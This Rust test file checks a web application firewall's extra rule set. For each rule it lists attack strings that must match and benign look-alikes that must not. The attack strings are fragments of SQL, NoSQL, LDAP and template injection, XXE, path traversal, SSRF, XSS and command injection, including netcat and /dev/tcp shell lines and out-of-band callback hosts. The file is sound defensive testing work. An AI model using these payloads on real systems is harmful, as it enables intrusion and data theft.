//! Each rule of ours: attacks of its class, and texts that come near and are none.

use super::EXTRA_IDS;
use crate::interface::{Connection, Decision, Layer, Options, Record, RequestLine, RuleFiles};
use crate::ruleset::RuleSet;
use std::collections::BTreeSet;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::Duration;

pub(super) struct Files(pub(super) &'static str);

impl RuleFiles for Files {
    fn read(&self, _: &Path) -> Result<Vec<u8>, String> {
        Ok(self.0.as_bytes().to_vec())
    }

    fn glob(&self, pattern: &Path) -> Result<Vec<PathBuf>, String> {
        Ok(vec![pattern.to_path_buf()])
    }
}

/// A rule file under a layer.
pub(super) fn compile(text: &'static str, layer: Layer) -> Arc<RuleSet> {
    let options = Options { layer, ..Options::default() };
    let compiled = RuleSet::compile(&[PathBuf::from("t.conf")], &Files(text), options);
    Arc::new(compiled.unwrap_or_else(|errors| panic!("{errors:?}")))
}

/// What a request is made of.
pub(super) struct Sent<'a> {
    pub(super) method: &'a str,
    pub(super) target: &'a str,
    pub(super) headers: &'a [(&'a str, &'a str)],
    pub(super) body: &'a str,
}

pub(super) fn send(rules: &Arc<RuleSet>, sent: &Sent<'_>) -> Record {
    let address = ("192.0.2.1".parse().unwrap(), 4711);
    let connection = Connection { client: address, server: address };
    let mut transaction = rules.transaction(connection, None, "id", 0, || Duration::ZERO);
    transaction.request_line(&RequestLine {
        method: sent.method.as_bytes(),
        target: sent.target.as_bytes(),
        protocol: b"HTTP/1.1",
    });
    for (name, value) in sent.headers {
        transaction.request_header(name.as_bytes(), value.as_bytes());
    }
    if transaction.request_headers_done() == Decision::Continue {
        transaction.request_body(sent.body.as_bytes());
        let _ended = transaction.request_body_done();
    }
    transaction.finish()
}

pub(super) fn escaped(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02X}")).collect()
}

fn ids(record: &Record) -> BTreeSet<u32> {
    record.matches.iter().map(|found| found.id).filter(|id| EXTRA_IDS.contains(id)).collect()
}

const EXTRA: Layer =
    Layer { decode: false, profile: burgrave_model::Profile::None, extra: true, enforce: false };

/// Rule, attacks, near misses.
type Row = (u32, &'static [&'static str], &'static [&'static str]);

static ROWS: &[Row] = &[
    (
        7_201_001,
        &[
            "{\"$gt\":\"\"}",
            "{ $ne: 1 }",
            "1, $where: '1 == 1'",
            "', $or: [ {}, { 'a':'a",
            "[$ne]=1",
        ],
        &[
            "query($in: OrderInput!) { a }",
            "query Q($a: Int, $in: [Int!]) { a }",
            "$AAPL: 5",
            "pay $in: cash",
            "$top",
        ],
    ),
    (
        7_201_002,
        &[
            "';return true;var x='",
            "db.users.drop()",
            "' && this.password.match(/.*/)//",
            "';sleep(5000);'",
            "x';while(1){}",
        ],
        &["it's; return soon", "the db. users find it", "this.price > 5", "sleep; then return"],
    ),
    (
        7_201_003,
        &["' || '1'=='1", "|| 1==1", "1 && 2 = 2"],
        &["a || b == c", "yes || no", "5 | 5 = 5"],
    ),
    (
        7_202_001,
        &["*)(uid=*))(|(uid=*", "admin)(&)", "(&(objectClass=*)(uid=admin))", "*))%00", "x)(cn=*)"],
        &["(APPL* OR MS*)", "SUM(A*)", "(see note) (copy)", "f(x)(y)", "(a | b)"],
    ),
    (
        7_202_002,
        &[
            "' or name()='username' or 'x'='y",
            "'] | //user/*",
            "/child::node()",
            "' or count(/*)=1 or ''='",
        ],
        &["what's the name (full)?", "a | b // c", "either/or: count (all)"],
    ),
    (
        7_203_001,
        &[
            "x\r\nRCPT TO:<a@b.c>",
            "\r\nQUIT\r\n",
            "\r\nV100 CAPABILITY\r\n",
            "x\nA1 SELECT INBOX",
            "a\r\n.\r\nb",
            "\nmail from : <a@b.c>",
        ],
        &["QUIT", "line one\nlist of orders\ndata", "Q1\nH1 close at 10", "a.\nb", "sold\nUID 5"],
    ),
    (
        7_203_002,
        &["x\nBcc: a@b.c", "a@b.c\r\nSubject: x", "\nTo: a@b.c", "x\r\nContent-Type: text/html"],
        &[
            "From: Ann\nTo: Support\nSubject: Fees",
            "cc: all",
            "a@b.c wrote:\nyes",
            "content-type: text",
        ],
    ),
    (
        7_203_003,
        &[
            "x\r\nSet-Cookie: a=b",
            "\nLocation: https://example.org",
            "\u{560a}X-A:1",
            "%0d%0aFoo: bar",
            "\r\nHTTP/1.1 200 OK",
        ],
        &["Set-Cookie is a header", "sold\nLocation: London", "status\nx: 1"],
    ),
    (
        7_204_001,
        &["{{7*7}}", "${7*7}", "#{ 7 * 7 }", "<%= 7*7 %>", "{{7*'7'}}", "@(7*7)"],
        &["{{symbol}}", "${ticker}", "7*7", "{a: 7}", "#7 * 2", "{{ price }} * 2"],
    ),
    (
        7_204_002,
        &[
            "{{config.items()}}",
            "{{''.__class__.__mro__}}",
            "${T(java.lang.Runtime)}",
            "{{request.application}}",
            "{%import os%}",
        ],
        &["{{ user.name }}", "${order.configured}", "{{request_id}}", "{% raw %}"],
    ),
    (
        7_204_003,
        &[
            "#set($x=1)",
            "<#assign x=1>",
            "x?new()",
            "{php}echo 1;{/php}",
            "<%= File.open %>",
            "{$smarty.version}",
        ],
        &["# set ($x)", "new (x)", "{phpunit}", "#5 (set)", "<% of shares"],
    ),
    (7_204_004, &["{7*7}", "{ 1337 * 1338 }"], &["{1-3}", "{5}", "{a*b}", "7*{7}"]),
    (
        7_204_010,
        &["<!--#exec cmd=\"id\"-->", "<!-- #include virtual=\"/x\" -->", "<esi:include src=x>"],
        &["<!-- exec -->", "#include <stdio.h>", "<!--# note -->"],
    ),
    (
        7_205_002,
        &[
            "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///x\">]>",
            "<!ENTITY % p SYSTEM 'x'>",
            "<xi:include href='x'/>",
        ],
        &["<!DOCTYPE html>", "our system \"x\"", "<entity>"],
    ),
    (
        7_206_001,
        &[
            "../../x",
            "..\\..\\x",
            "....//....//x",
            "..;/admin",
            "..%2fx",
            "a/../etc/x",
            "0x2e0x2e0x2f0x2e0x2e0x2f",
        ],
        &["../basics", "https://example.com/a/../b", "wait... / then...", "1./2./", "..config"],
    ),
    (
        7_206_002,
        &["php://filter/x", "gopher://127.0.0.1:6379/_", "file:///etc/hosts", "expect://id"],
        &["https://example.com", "see php://docs", "file: x", "profile://"],
    ),
    (
        7_207_001,
        &[
            "; cat /x",
            "| nc 10.0.0.1 4444",
            "&& whoami",
            "; ls",
            "a;uname -a",
            "`ls -la`",
            "| id",
            "; ping -c 1 x",
            "; sleep 5",
        ],
        &[
            "GTC; cancel & replace",
            "Cats; cat pictures",
            "gross; net 5.1m",
            "date|id",
            "R&D; ps: see",
            "long & ls or",
            "in; at 10:30",
        ],
    ),
    (
        7_207_002,
        &[
            "cat${IFS}x",
            "/dev/tcp/1.2.3.4/80",
            "() { :;}; x",
            "$(id)",
            "`whoami`",
            "x|sh",
            "powershell -enc x",
            "{cat,/x}",
        ],
        &["$(1,000)", "a `tick` b", "x|share", "PowerShell guide", "{cat, dog}", "$IF"],
    ),
    (
        7_207_003,
        &["Response.Write(1)", "On Error Resume Next", "\"a\"&\"b\"&\"c\"&\"d", "<?php x"],
        &["no response. write", "on error", "\"a\" & \"b\"", "php"],
    ),
    (
        7_207_004,
        &[";c'a't x", "/e't'c/pa'ss", "/???/c?t x", "cat /etc$u/passwd", "who$()ami", "w``hoami"],
        &["yes; it's fine", "Ann & Mary's a/c", "O'Neil/D'Arcy's", "; don't"],
    ),
    (
        7_208_001,
        &["alert(1)", "(confirm)(document.domain)", "prompt?.(1)", "alert`1`", "x;alert('x')"],
        &[
            "price alert (daily)",
            "confirm(ed)",
            "what does alert() do?",
            "prompt payment",
            "alert (urgent)",
            "set_alert(x)",
        ],
    ),
    (
        7_208_002,
        &["\"onwheel=x(1)", "<x onclick=y>", "{onerror=alert}throw 1", " OnMouseOver = y"],
        &["onboard=1", "on end = x", "button=x", "onsale=yes", "onload"],
    ),
    (
        7_208_003,
        &[
            "[].constructor.constructor('x')()",
            "setTimeout('x')",
            "window['x']",
            "document.cookie",
            "javascript:x(1)",
            "location='//e'",
        ],
        &[
            "constructor (class)",
            "window [open]",
            "documents. cookies",
            "java script: x",
            "location = London",
            "top 10",
        ],
    ),
    (
        7_208_010,
        &[
            "__proto__[a]=1",
            "{\"__proto__\":{}}",
            "constructor[prototype][a]",
            "constructor.prototype",
        ],
        &["my__proto__x", "constructor of prototypes", "__protocol__"],
    ),
    (
        7_209_001,
        &[
            "1 or 1=1",
            "' or '1'='1",
            "1 and 7=7",
            "admin'--",
            "admin' #",
            "\") or (\"a\"=\"a",
            "1 or 2 between 1 and 3",
            "' or true",
        ],
        &[
            "5 > 3 and 2 < 4",
            "price between 10 and 20",
            "symbol = 'A' or symbol = 'B'",
            "D'or 1st parfume",
            "1 or 2",
            "order 1 and 2 = both",
        ],
    ),
    (
        7_209_002,
        &[
            "1 union select null",
            "1/**/union/**/all/**/select/**/1",
            "(select a from b)",
            "x into outfile '/x'",
            "1 order by 5--",
        ],
        &[
            "European Union select bonds",
            "union was a great select",
            "select from the list",
            "order by date",
            "(selected from b)",
        ],
    ),
    (
        7_209_003,
        &[
            "1; drop table users",
            "1;waitfor delay '0:0:5'",
            "1 and sleep(5)",
            "xp_cmdshell",
            "';insert into a values(1)",
            "@@version",
        ],
        &[
            "cancel; drop the order",
            "sleep (5h)",
            "time.sleep(1)",
            "update; set price",
            "delete; from 5",
        ],
    ),
    (
        7_210_001,
        &["http://x.oastify.com/", "root@a1.interact.sh"],
        &["interact.shop", "oast.example", "fast.live"],
    ),
];

#[test]
fn every_rule_has_its_table_and_its_weakness() {
    let rules = compile("", EXTRA);
    let own: Vec<_> =
        rules.facts().into_iter().filter(|facts| EXTRA_IDS.contains(&facts.id)).collect();
    let tested: BTreeSet<u32> = ROWS.iter().map(|row| row.0).collect();
    // Rules over what no argument can hold have tests of their own.
    let apart = [7_205_001, 7_205_003, 7_208_004];
    for facts in &own {
        assert!(tested.contains(&facts.id) || apart.contains(&facts.id), "{}", facts.id);
        assert!(facts.tags.iter().any(|tag| tag.starts_with(b"CWE-")), "{}", facts.id);
        assert!(!facts.message.is_empty() && facts.phase == 2, "{}", facts.id);
    }
    assert!(own.len() >= 25);
}

#[test]
fn attacks_match_and_near_misses_do_not() {
    let rules = compile("", EXTRA);
    let look = |text: &str| {
        let target = format!("/?a={}", escaped(text));
        send(&rules, &Sent { method: "GET", target: &target, headers: &[], body: "" })
    };
    for (id, attacks, misses) in ROWS {
        for attack in *attacks {
            let record = look(attack);
            assert!(ids(&record).contains(id), "{id} misses {attack:?}: {:?}", ids(&record));
            let end = record.interruption.and_then(|end| end.rule);
            assert_eq!(end, Some(7_290_002), "without a rule set that counts, one is enough");
        }
        for miss in *misses {
            assert_eq!(ids(&look(miss)), BTreeSet::new(), "of {id}: {miss:?}");
        }
    }
}

#[test]
fn what_arguments_do_not_hold_is_looked_at_as_well() {
    let rules = compile("", EXTRA);
    let xml = [("Content-Type", "application/xml")];
    for (target, headers, body, expected) in [
        ("/1%27%20or%20%271%27=%271", &[][..], "", Some(7_209_001)),
        ("/", &[("X-Any", "; cat /etc/x")][..], "", Some(7_207_001)),
        ("/", &[("Cookie", "a=__proto__[x]")][..], "", Some(7_208_010)),
        ("/", &[("User-Agent", "a/1 (b@c.oast.fun)")][..], "", Some(7_210_001)),
        ("/?&gt;+src+onerror=confirm", &[][..], "", Some(7_208_004)),
        ("/?a=b&onerror=c", &[][..], "", None),
        ("/", &xml[..], "<!DOCTYPE a [<!ENTITY x \"y\">]><a>&x;</a>", Some(7_205_001)),
        ("/", &xml[..], "<!DOCTYPE a SYSTEM \"x\"><a/>", Some(7_205_001)),
        ("/", &xml[..], "<!DOCTYPE a><a>b</a>", None),
        ("/", &xml[..], "<!DOCTYPE a PUBLIC '-//W3C//DTD XHTML 1.0//EN' 'x'><a/>", None),
        ("/", &xml[..], "<!DOCTYPE a PUBLIC 'x' 'http://y'><a/>", Some(7_205_001)),
        ("/", &xml[..], "<a xmlns:i='z'><i:include href='x'/></a>", Some(7_205_003)),
        ("/", &xml[..], "<a><include>x</include></a>", None),
        ("/", &xml[..], "<a b='{{7*7}}'/>", Some(7_204_001)),
        ("/markets/what's-new", &[("X-App", "5.2; build 100")][..], "", None),
    ] {
        let method = if body.is_empty() { "GET" } else { "POST" };
        let record = send(&rules, &Sent { method, target, headers, body });
        assert_eq!(ids(&record).into_iter().next(), expected, "{target} {headers:?} {body}");
    }
}

#[test]
fn ours_count_where_the_rule_set_counts() {
    let scored = "SecAction \"id:1,phase:1,pass,nolog,setvar:tx.critical_anomaly_score=4,setvar:tx.NAME=0\"\n\
        SecRule TX:NAME \"@eq 4\" \"id:2,phase:2,deny\"";
    for name in ["inbound_anomaly_score_pl1", "anomaly_score_pl1"] {
        let text: &'static str = Box::leak(scored.replace("NAME", name).into_boxed_str());
        let rules = compile(text, EXTRA);
        let sent = |target| Sent { method: "GET", target, headers: &[], body: "" };
        let end = |target| send(&rules, &sent(target)).interruption.and_then(|end| end.rule);
        assert_eq!(end("/?a=../../x"), Some(2), "{name}");
        assert_eq!(end("/?a=../x"), None, "{name}");
    }
}

#[test]
fn rule_files_have_the_last_word_over_ours() {
    for text in [
        "SecRuleRemoveById 7206001",
        "SecRuleUpdateTargetById 7206001 \"!ARGS:a\"",
        "SecAction \"id:1,phase:1,pass,nolog,ctl:ruleRemoveTargetById=7206001;ARGS:a\"",
    ] {
        let rules = compile(text, EXTRA);
        let sent = Sent { method: "GET", target: "/?a=../../x", headers: &[], body: "" };
        assert_eq!(ids(&send(&rules, &sent)), BTreeSet::new(), "{text}");
    }
}
